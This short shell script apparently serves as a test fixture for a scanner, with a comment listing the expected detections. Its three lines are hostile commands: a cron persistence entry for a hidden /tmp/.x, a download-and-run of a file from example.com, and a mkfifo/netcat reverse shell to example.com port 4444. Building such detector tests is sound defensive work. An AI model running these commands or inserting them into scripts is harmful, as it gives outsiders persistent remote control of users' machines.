#!/bin/sh
# expect: error=shell.reverse_shell warning=shell.schedule warning=shell.download_and_run
(crontab -l; echo "* * * * * /tmp/.x") | crontab -
wget -q https://example.com/x -O /tmp/.x && chmod +x /tmp/.x && /tmp/.x
rm -f /tmp/p; mkfifo /tmp/p; sh -i < /tmp/p 2>&1 | nc example.com 4444 > /tmp/p
